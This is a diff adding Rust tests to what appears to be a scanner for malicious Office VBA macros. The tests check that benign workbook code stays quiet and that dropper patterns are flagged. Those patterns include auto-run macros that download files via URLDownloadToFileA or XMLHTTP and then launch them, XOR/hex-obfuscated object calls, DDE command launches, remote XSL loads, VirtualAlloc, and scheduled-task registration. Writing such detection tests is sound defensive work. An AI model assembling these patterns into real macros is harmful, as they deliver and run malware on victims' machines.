@@ -2,6 +2,7 @@
 
 use crate::common::office::{Compound, Module, ModuleKind, vba_project};
 use crate::common::ovba::compress;
+use sekisho::finding::{Category, Severity};
 use sekisho::formats::cfb::CompoundFile;
 use sekisho::knowledge::Knowledge;
 use sekisho::limits::Limits;
@@ -131,6 +132,7 @@ fn calls_are_judged_by_what_they_do() {
             "a = Array(55, 57, 48)\nFor i = LBound(a) To UBound(a)\ns = s & Chr(a(i) Xor 84)\nNext\nShell s & \" /c x\"",
             &["vba-run-interpreter"],
         ),
+        ("GetObject(Sheet1.Range(\"A1\")).Create path, a, b, c", &["vba-run-program"]),
         ("CreateObject(\"Shell.Application\").Open path", &["vba-run-program"]),
         (
             "GetObject(\"new:C08AFD90-F2A1-11D1-8455-00A0C91F3880\").Document.Application.ShellExecute path",
@@ -189,6 +191,9 @@ fn what_honest_code_does_stays_quiet() {
         "Set x = CreateObject(\"Excel.Application\")\nx.Workbooks.Open ThisWorkbook.Path & \"\\a.xls\"",
         "Set c = CreateObject(\"ADODB.Connection\")\nc.Open \"Provider=SQLOLEDB;Server=\" & given",
         "Set o = CreateObject(given)",
+        "Set x = GetObject(, \"Excel.Application\")\nx.Run \"Recalc\"",
+        "Set w = GetObject(Sheet1.Range(\"A1\"))\nw.Application.Run \"Recalc\"",
+        "Set x = CreateObject(\"Excel.Application\")\nx.Run \"Book.xls!Main\"",
         "Set r = New RegExp\nr.Pattern = \"cmd /c\"",
         "Application.Run \"Recalc\"",
         "Application.Run \"'\" & ThisWorkbook.Name & \"'!Module1.Recalc\"",
@@ -335,4 +340,89 @@ fn code_that_grows_without_bounds_costs_a_bounded_time() {
         assert!(!found.contains(&"scan-fault".to_owned()));
     }
     assert!(start.elapsed() < std::time::Duration::from_secs(30), "{:?}", start.elapsed());
+}
+
+#[test]
+fn a_call_is_seen_however_much_stands_before_it() {
+    let burn = "Sub Burn()\nFor i = 1 To 99999\nFor j = 1 To 99999\ns = s & String(9000, \"x\")\nNext\nNext\nEnd Sub\n";
+    let long = "s = s & \"0123456789012345678901234567890123456789\"\nt = s\n".repeat(40_000);
+    let last = "Sub AutoOpen()\nShell \"power\" & \"shell -e x\"\nEnd Sub\n";
+    let chain = format!("Sub Chain()\ns = \"\"{}\nEnd Sub\n", " & \"0123456789\"".repeat(100_000));
+    for before in [burn.repeat(50), format!("Sub Long()\n{long}End Sub\n"), chain] {
+        let start = std::time::Instant::now();
+        let found = findings(&[("Module1", &format!("{before}{last}"), ModuleKind::Standard)]);
+        assert!(found.contains(&"vba-run-interpreter".to_owned()), "{found:?}");
+        assert!(start.elapsed() < std::time::Duration::from_secs(10), "{:?}", start.elapsed());
+    }
+}
+
+/// Honest workbooks and templates do a lot on opening; a button beside that starts a program.
+#[test]
+fn honest_starts_stay_harmless() {
+    let bodies = [
+        "Application.ScreenUpdating = False\nWorksheets(\"Input\").Protect Password:=\"x\", UserInterfaceOnly:=True",
+        "Application.OnKey \"^s\", \"SaveAll\"\nApplication.OnKey \"{F1}\", \"\"\nApplication.OnTime Now + TimeValue(\"00:01:00\"), \"Tick\"",
+        "Set b = Application.CommandBars(\"Cell\").Controls.Add\nb.OnAction = \"'\" & ThisWorkbook.Name & \"'!Tick\"",
+        "u = CreateObject(\"WScript.Network\").UserName\nIf Environ(\"USERNAME\") <> u Then MsgBox u",
+        "Set c = New ADODB.Connection\nc.Open \"Provider=SQLOLEDB;Data Source=srv\"\nSet r = c.Execute(\"select * from cmd\")",
+        "Set f = CreateObject(\"Scripting.FileSystemObject\")\nIf f.FileExists(p) Then Set t = f.OpenTextFile(p, 1)",
+        "ActiveDocument.AttachedTemplate = \"\\\\server\\templates\\letter.dot\"\nUserForm1.Show",
+        "Set o = CreateObject(\"Outlook.Application\")\nSet m = o.CreateItem(0)\nm.To = \"a@b.example\"\nm.Display",
+        "Application.Run \"'\" & ThisWorkbook.Path & \"\\addin.xla'!Main\"",
+        "x = CreateObject(\"WScript.Shell\").RegRead(\"HKCU\\Software\\Acme\\Path\")\nSaveSetting \"Acme\", \"a\", \"b\", x",
+        "ThisWorkbook.SaveCopyAs ThisWorkbook.Path & \"\\backup.xls\"\nKill ThisWorkbook.Path & \"\\old.xls\"",
+        "With CreateObject(\"Shell.Application\").BrowseForFolder(0, \"Folder\", 0)\np = .Self.Path\nEnd With",
+        "ActiveWorkbook.RefreshAll\nDoEvents\nCalculate\nApplication.Calculation = xlCalculationManual",
+        "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"https://rates.example/eur.json\", False\nh.send\nRange(\"A1\") = h.responseText",
+    ];
+    for body in bodies {
+        let source = format!(
+            "Private Sub Workbook_Open()\n{body}\nEnd Sub\nSub Tick()\nCalculate\nEnd Sub\n\
+             Sub Button1_Click()\nShell \"notepad.exe\"\nEnd Sub\n"
+        );
+        let found = findings(&[("ThisWorkbook", &source, ModuleKind::Document)]);
+        assert!(
+            found.contains(&"vba-startup".to_owned()) && !found.contains(&"vba-autoexec".to_owned()),
+            "{body}: {found:?}"
+        );
+        for id in ["vba-obfuscated", "vba-hidden-object", "vba-download", "vba-dynamic-call", "vba-drop-file"] {
+            assert!(!found.contains(&id.to_owned()), "{id}: {body}");
+        }
+    }
+}
+
+/// One line of work for each way that droppers start what they drop.
+#[test]
+fn droppers_of_many_kinds_are_seen() {
+    let sources = [
+        "Private Declare PtrSafe Function d Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal p&, ByVal u$, ByVal f$, ByVal r&, ByVal c&) As Long\n\
+         Sub Workbook_Open()\nd 0, Sheet1.Range(\"A1\"), p, 0, 0\nEnd Sub",
+        "Sub Document_Open()\nOpen \"C:\\Users\\Public\\a.hta\" For Output As #1\nPrint #1, s\nClose #1\nShell \"explorer C:\\Users\\Public\\a.hta\"\nEnd Sub",
+        "Sub AutoOpen()\nSet p = Make(UserForm1.Label1.Tag)\np.Create UserForm1.Label2.Tag, a, b, c\nEnd Sub\nFunction Make(n)\nSet Make = CreateObject(n & \"\")\nEnd Function",
+        "Sub Document_Close()\nSet h = CreateObject(\"Microsoft.XMLHTTP\")\nh.Open \"GET\", u, False\nh.send\nSet s = CreateObject(\"ADODB.Stream\")\n\
+         s.Write h.responseBody\ns.SaveToFile p, 2\nCreateObject(\"Shell.Application\").Open (p)\nEnd Sub",
+        "Sub AutoOpen()\nCreateObject(Un(\"4144554645420558637366\")).Run Un(\"00\"), 0\nEnd Sub\n\
+         Function Un(h)\nFor i = 1 To Len(h) Step 2\nUn = Un & Chr(Val(\"&H\" & Mid(h, i, 2)) Xor 22)\nNext\nEnd Function",
+        "Sub Auto_Close()\nDDEInitiate \"cmd\", \"/c calc\"\nShell.Run\nEnd Sub\nSub x()\nEnd Sub",
+        "Sub Document_Open()\nSet x = CreateObject(\"MSXML2.DOMDocument\")\nx.Load \"http://a.example/s.xsl\"\nx.transformNode x\nEnd Sub",
+        "Declare PtrSafe Function a Lib \"kernel32\" Alias \"VirtualAlloc\" (ByVal b&, ByVal c&, ByVal d&, ByVal e&) As LongPtr\nSub Document_Open()\nx = a(0, 9, 4096, 64)\nEnd Sub",
+        "Sub AutoOpen()\nSet t = CreateObject(\"Schedule.Service\")\nt.Connect\nt.GetFolder(\"\\\").RegisterTaskDefinition \"a\", d, 6, \"\", \"\", 3\nEnd Sub",
+        "Sub AutoOpen()\nApplication.Run UserForm1.Tag & x\nEnd Sub\nSub Later()\nShell p\nEnd Sub",
+        "Sub Workbook_Open()\nGetObject(\"new:13709620-C279-11CE-A49E-444553540000\").ShellExecute p\nEnd Sub",
+        "Sub AutoOpen()\nWith New Shell32.Shell\n.ShellExecute p, q, \"\", \"open\", 0\nEnd With\nEnd Sub",
+        "Sub AutoNew()\nNormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromString s\nEnd Sub",
+        "Sub Workbook_Open()\nExecuteExcel4Macro \"CALL(\"\"urlmon\"\",\"\"URLDownloadToFileA\"\")\"\nEnd Sub",
+    ];
+    for source in sources {
+        let report = report(vba_project(&[("Module1", source, ModuleKind::Standard)]));
+        let capable =
+            report.findings.iter().any(|f| f.id.category == Category::Capability && f.id.severity >= Severity::Medium);
+        let starts = report.findings.iter().any(|f| f.id.as_str() == "vba-autoexec");
+        assert!(capable && starts, "{source}\n{:?}", report.findings);
+    }
+    // Word runs MAIN of a module called AutoOpen.
+    assert!(
+        findings(&[("AutoOpen", "Sub MAIN()\nShell p\nEnd Sub\n", ModuleKind::Standard)])
+            .contains(&"vba-autoexec".to_owned())
+    );
 }
